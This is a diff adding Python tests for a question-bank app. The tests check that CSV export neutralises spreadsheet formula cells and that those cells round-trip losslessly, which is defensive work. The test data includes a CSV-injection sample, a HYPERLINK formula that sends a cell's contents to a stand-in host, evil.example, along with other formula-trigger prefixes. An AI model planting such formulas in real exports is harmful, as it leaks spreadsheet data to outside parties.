@@ -313,6 +313,72 @@ def test_the_csv_export_has_the_documented_columns_and_cells(topics):
     )
 
 
+FORMULA_TEXTS = [
+    '=HYPERLINK("https://evil.example/?d="&A1, "Click")',
+    "@SUM(A1:A9)",
+    "+1+2",
+    "-2+3",
+    "\tTabbed",
+    "\rReturned",
+    "'=already quoted",
+    "''=twice",
+    "'plain quote",
+    "''",
+]
+
+
+def test_the_csv_export_neutralises_formula_cells(topics):
+    make_question(
+        topic=topics["algebra"],
+        body='=HYPERLINK("https://evil.example", "x")',
+        explanation_md="@SUM(A1:A9)",
+        choices=[("-2+3", True), ("+1", False)],
+        tags=("=cmd",),
+        external_id="@id",
+    )
+
+    exported = questions_export(queryset=Question.objects.all(), fmt="csv")
+
+    row = dict(zip(COLUMNS, list(csv.reader(io.StringIO(exported)))[1], strict=True))
+    assert row["external_id"] == "'@id"
+    assert row["body"] == '\'=HYPERLINK("https://evil.example", "x")'
+    assert row["explanation"] == "'@SUM(A1:A9)"
+    assert row["choices"] == "'-2+3|+1"
+    assert row["tags"] == "'=cmd"
+    formula_starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for cell in row.values() if cell[:1] in formula_starts]
+
+
+def test_formula_cells_round_trip_losslessly(topics):
+    for number, text in enumerate(FORMULA_TEXTS):
+        make_question(
+            topic=topics["algebra"],
+            body=text or "x",
+            explanation_md=text,
+            choices=[(text or "x", True), ("other", False)],
+            tags=(text,) if text.strip() else (),
+            external_id=f"f-{number}",
+        )
+    before = _bank_snapshot()
+
+    exported = questions_export(queryset=Question.objects.all(), fmt="csv")
+    Question.objects.all().delete()
+    questions_import(content=exported.encode(), fmt="csv")
+
+    assert _bank_snapshot() == before
+    assert questions_export(queryset=Question.objects.all(), fmt="csv") == exported
+
+
+def test_the_api_csv_export_neutralises_formula_cells(topics):
+    make_question(topic=topics["algebra"], body="=1+1", external_id="q-f")
+
+    response = _staff_with("view_question").get(EXPORT, {"format": "csv"})
+
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][COLUMNS.index("body")] == "'=1+1"
+
+
 def test_the_json_export_has_the_documented_keys(topics):
     make_question(
         topic=topics["geometry"],
